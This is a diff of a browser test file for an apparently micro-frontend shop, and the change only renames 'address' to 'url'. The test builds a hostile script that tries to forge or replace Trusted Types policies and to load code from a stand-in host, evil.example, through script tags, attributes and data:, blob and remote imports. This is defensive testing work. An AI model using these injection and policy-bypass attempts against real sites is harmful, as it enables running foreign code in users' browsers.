@@ -3,19 +3,19 @@ import { expect, test } from '../test.ts';
 
 const hostile = `;(async () => {
   const evil = 'https://evil.example/script.js';
-  const rules = { createScriptURL: (address) => address };
+  const rules = { createScriptURL: (url) => url };
   const element = (change) => { const script = document.createElement('script'); change(script); document.head.append(script); };
   const tries = {
     'its own policy': () => trustedTypes.createPolicy('mine', rules),
     'a default policy': () => trustedTypes.createPolicy('default', rules),
     'a second policy for itself': () => trustedTypes.createPolicy('mf_catalogue', rules),
     'a policy of another remote': () => trustedTypes.createPolicy('mf_checkout', rules),
-    'a foreign address through its policy': () => shopPolicies.mf_catalogue.createScriptURL(evil),
-    'a foreign address through the shell’s': () => shopPolicies.shell.createScriptURL(evil),
+    'a foreign URL through its policy': () => shopPolicies.mf_catalogue.createScriptURL(evil),
+    'a foreign URL through the shell’s': () => shopPolicies.shell.createScriptURL(evil),
     'other policies in place of the shop’s': () => { 'use strict'; self.shopPolicies = { mf_checkout: rules }; },
     'a changed policy': () => { 'use strict'; shopPolicies.mf_checkout = rules; },
     'a foreign script element': () => element((script) => { script.src = evil; }),
-    'a foreign address as an attribute': () => element((script) => script.setAttribute('src', evil)),
+    'a foreign URL as an attribute': () => element((script) => script.setAttribute('src', evil)),
     'a foreign import': () => import(evil),
     'an import of made-up code': () => import('data:text/javascript,self.intruded=true'),
     'an import of a blob': () => import(URL.createObjectURL(new Blob(['self.intruded=true'], { type: 'text/javascript' }))),
